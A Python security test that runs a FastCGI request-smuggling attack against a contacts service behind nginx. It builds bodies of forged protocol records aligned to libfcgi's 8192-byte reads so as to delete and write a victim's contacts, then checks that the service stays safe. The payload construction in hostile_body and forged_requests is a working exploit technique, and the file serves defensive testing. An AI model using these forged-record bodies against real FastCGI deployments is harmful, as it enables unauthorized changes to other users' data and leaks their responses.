#!/usr/bin/env python3
"""
The request-smuggling attack.

nginx keeps its FastCGI connections. If the application answers before it has read a body to
its end and goes on with the connection, the rest of that body is read as the next records of the
protocol, and a client that wrote records into its body has forged a request with any identity.
(libfcgi reads 8192 bytes at a time and forgets its buffer at the end of a request; so the rest begins at a
multiple of 8192 of the stream.)

Here attackers with a valid key send such bodies on every route that refuses early, whole or not read to
the end; each body is a slide of harmless records with forged requests for the victim's account in every
block. Beside them innocents read and write their own contacts and look whether an answer is theirs. The
attack succeeds when the victim's contacts change, a forged request id shows up in the log, or an
innocent gets an answer that is not his own.

usage: smuggling.py --seconds N [--expect safe|broken]
       with VICTIM_ACCOUNT, VICTIM_KEY, ATTACKER_KEY, READ_ONLY_KEY, LIMITED_KEY, INNOCENT_KEYS in the environment
"""

import argparse
import itertools
import os
import threading
import time

import client
import fastcgi
import report

VICTIM_PHONES = [f"9997705000{n:04}" for n in range(40)]
FORGED_PHONE = "99977059999999"
FORGED_ID = "f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0"
BLOCK = 8192  # what libfcgi reads at once

# A record for a request nobody has begun: it is skipped with its content, which looks the same. So
# wherever on an even multiple of 8 the reader begins, it slides to the end.
SLIDE = fastcgi.header(fastcgi.STDIN, 0x7777, 8)

victim_account = os.environ["VICTIM_ACCOUNT"]
deadline = 0
wrong_answers = []
counts = {"attacks": 0, "innocent": 0, "broken connections": 0}
statuses = {}
lock = threading.Lock()


def forged_requests():
    """Forged requests, as records: delete what the victim has, and write what he has not."""
    for number in itertools.count():
        kind = number % 4
        if kind < 2:
            phone = VICTIM_PHONES[number % len(VICTIM_PHONES)]
            yield fastcgi.request(fastcgi.parameters(
                "DELETE", "/v1/contacts/cnt_" + phone, victim_account, REQUEST_ID=FORGED_ID))
        elif kind == 2:
            body = b'{"phone":"%s","first_name":"Forged"}' % FORGED_PHONE.encode()
            yield fastcgi.request(fastcgi.parameters(
                "POST", "/v1/contacts", victim_account, body, REQUEST_ID=FORGED_ID), body)
        else:
            yield fastcgi.request(fastcgi.parameters(
                "GET", "/v1/contacts?limit=100", victim_account, REQUEST_ID=FORGED_ID))


forged = forged_requests()


def hostile_body(blocks, shift, prefix=b""):
    """A body with a forged request in every block, everything else a slide; moved by shift bytes."""
    body = bytearray(prefix + b"\1" * (-len(prefix) % 8) + b"\1" * shift)
    for _ in range(blocks):
        attack = next(forged)
        room = BLOCK - len(attack)
        before = room // 16 * 8  # the forged request in the middle: headers of nginx come before
        body += SLIDE * (before // 8) + attack
        body += SLIDE * ((BLOCK - before - len(attack)) // 8)
    return bytes(body)


# What refuses early: method, path, prefix of the body, headers, key. The service may read the
# body or not; what it does not read must not become a request.
KEYS = {name: os.environ[name] for name in ("ATTACKER_KEY", "READ_ONLY_KEY", "LIMITED_KEY")}
ROUTES = [
    ("POST", "/v1/contacts", b"", {"Content-Type": "text/plain"}, "ATTACKER_KEY"),
    ("POST", "/v1/contacts", b"", {"Content-Type": ""}, "ATTACKER_KEY"),
    ("POST", "/v1/contacts", b"", {"Content-Encoding": "gzip"}, "ATTACKER_KEY"),
    ("POST", "/v1/contacts", b"", {}, "ATTACKER_KEY"),
    ("POST", "/v1/contacts", b'{"phone":"99977059000001"}', {}, "ATTACKER_KEY"),
    ("POST", "/v1/contacts?unknown=1", b"", {}, "ATTACKER_KEY"),
    ("PATCH", "/v1/contacts/abc", b"", {}, "ATTACKER_KEY"),
    ("PATCH", "/v1/contacts/99977059000001", b"", {"If-Match": "banana"}, "ATTACKER_KEY"),
    ("POST", "/v1/nothing", b"", {}, "ATTACKER_KEY"),
    ("POST", "/v1/status", b"", {}, "ATTACKER_KEY"),
    ("PUT", "/v1/contacts", b"", {}, "ATTACKER_KEY"),
    ("GET", "/v1/contacts", b"", {}, "ATTACKER_KEY"),
    ("GET", "/v1/status", b"", {"Content-Type": "text/plain"}, "ATTACKER_KEY"),
    ("DELETE", "/v1/contacts/99977059000001", b"", {}, "ATTACKER_KEY"),
    ("DELETE", "/v1/tags", b"", {}, "ATTACKER_KEY"),
    ("POST", "/v1/contacts", b"", {}, "READ_ONLY_KEY"),
    ("POST", "/v1/contacts", b"", {}, "LIMITED_KEY"),
    ("GET", "/v1/contacts", b"", {}, "LIMITED_KEY"),
]
SIZES = [2, 3, 5, 9, 33]  # blocks; nginx cuts bodies into records of 32 KiB
SHIFTS = range(0, 16)
# The largest body nginx lets through, and one it refuses half way.
LARGE = [127, 140]


def attacks():
    """Every route with every shift, sizes in turn; the largest ones now and then."""
    sizes = itertools.cycle(SIZES)
    for number, (shift, route) in enumerate(itertools.cycle(itertools.product(SHIFTS, ROUTES))):
        yield route, shift, LARGE[number // 37 % 2] if number % 37 == 0 else next(sizes)


attack_list = attacks()


def attack():
    callers = {name: client.Client(key) for name, key in KEYS.items()}
    while time.monotonic() < deadline:
        with lock:
            (method, path, prefix, headers, key), shift, blocks = next(attack_list)
            body = hostile_body(blocks, shift, prefix)
            counts["attacks"] += 1
        try:
            answer = callers[key].call(method, path, body, headers)
        except OSError:
            with lock:  # nginx closes on what is too large; everything else must be answered
                counts["broken connections"] += 1
                if len(body) <= 1048576:
                    wrong_answers.append(f"attacker: no answer to {method} {path}, {len(body)} bytes")
            continue
        with lock:
            statuses[answer.status] = statuses.get(answer.status, 0) + 1
            if not answer.is_envelope() or answer.status >= 500 or b"99977050" in answer.body:
                wrong_answers.append(f"attacker: {method} {path} got {answer}")


def innocent(number, key):
    """Reads and writes one contact of his own; every answer must be the one to what he asked."""
    own = client.Client(key)
    phone = f"999770510000{number:02}"
    value = 0
    while time.monotonic() < deadline:
        value += 1
        name = f"Innocent {number} {value}"
        requests = [
            ("POST", "/v1/contacts", {"phone": phone, "first_name": name}),
            ("GET", f"/v1/contacts/cnt_{phone}", None),
            ("GET", "/v1/contacts?limit=5", None),
        ]
        for method, path, body in requests:
            try:
                answer = own.call(method, path, body)
            except OSError as error:
                with lock:
                    wrong_answers.append(f"innocent: no answer to {method} {path}: {error}")
                continue
            with lock:
                counts["innocent"] += 1
                if not is_own(answer, path, phone, name):
                    wrong_answers.append(f"innocent {number} at value {value}: {method} {path} got {answer}")


def is_own(answer, path, phone, name):
    if answer.status not in (200, 201) or not answer.is_envelope():
        return False
    document = answer.json
    if "limit" in path:
        found = document.get("contacts", [{}])
        return len(found) == 1 and found[0].get("phone") == phone and found[0].get("first_name") == name
    found = document.get("contact", {})
    return found.get("phone") == phone and found.get("first_name") == name


def victims_contacts():
    """Phone and name of all the victim has; read one by one, in case the lists lie."""
    reader = client.Client(os.environ["VICTIM_KEY"])
    found = {}
    for phone in VICTIM_PHONES + [FORGED_PHONE]:
        answer = reader.call("GET", "/v1/contacts/cnt_" + phone)
        if answer.status == 200:
            found[phone] = answer.json["contact"]["first_name"]
        elif answer.status != 404:
            found[phone] = repr(answer)
    return found


def boundaries():
    """Honest bodies of every length around a boundary: the answer after each must be right too."""
    own = client.Client(os.environ["ATTACKER_KEY"])
    wrong = []
    for length in list(range(6400, 8400, 8)) + list(range(8170, 8200)) + list(range(32600, 32800, 8)):
        name = f"Length {length}"
        start = b'{"phone":"99977052000001","first_name":"%s"' % name.encode()
        body = start + b" " * (length - len(start) - 1) + b"}"
        try:
            for answer in (own.call("POST", "/v1/contacts", body),
                           own.call("GET", "/v1/contacts/99977052000001")):
                if answer.status not in (200, 201) or answer.json["contact"]["first_name"] != name:
                    wrong.append(f"{length} bytes: {answer}")
        except OSError as error:
            wrong.append(f"{length} bytes: {error}")
    return wrong


def main():
    global deadline
    options = argparse.ArgumentParser()
    options.add_argument("--seconds", type=float, default=6)
    options.add_argument("--expect", choices=["safe", "broken"], default="safe")
    options = options.parse_args()

    writer = client.Client(os.environ["VICTIM_KEY"])
    for phone in VICTIM_PHONES:
        writer.call("POST", "/v1/contacts", {"phone": phone, "first_name": "Victim"})
    expected = {phone: "Victim" for phone in VICTIM_PHONES}
    report.check("the victim has contacts before the attack", victims_contacts() == expected, victims_contacts())

    deadline = time.monotonic() + options.seconds
    threads = [threading.Thread(target=attack) for _ in range(3)]
    threads += [threading.Thread(target=innocent, args=(number, key))
                for number, key in enumerate(os.environ["INNOCENT_KEYS"].split())]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    found = victims_contacts()
    changed = [f"{phone}: {found.get(phone)}" for phone in sorted(set(found) | set(expected))
               if found.get(phone) != expected.get(phone)]
    with open(os.path.join(client.STACK, "log", "contactsd.log"), "rb") as log:
        logged = [line.decode(errors="replace") for line in log if FORGED_ID.encode() in line]
    report.note(f"{counts}, answers to attackers {dict(sorted(statuses.items()))}")
    report.note(f"victim's contacts changed: {len(changed)}, forged requests logged: {len(logged)}, "
                f"wrong answers: {len(wrong_answers)}")

    if options.expect == "broken":
        report.check("an application that does not read bodies is broken by this attack: contacts of the victim change",
                     changed)
        report.check("and its log shows forged requests", logged)
        report.check("and innocent clients get answers that are not theirs",
                     [line for line in wrong_answers if line.startswith("innocent")])
        report.finish()

    report.check("at least 300 attacks and 300 innocent requests were made",
                 counts["attacks"] >= 300 and counts["innocent"] >= 300, counts)
    report.check("nothing of the victim changed", not changed, *changed)
    report.check("no forged request reached the service", not logged, *logged)
    report.check("everybody got his own answer", not wrong_answers, *wrong_answers)
    wrong = boundaries()
    report.check("bodies of every length around a boundary are read to their end", not wrong, *wrong)
    report.finish()


main()
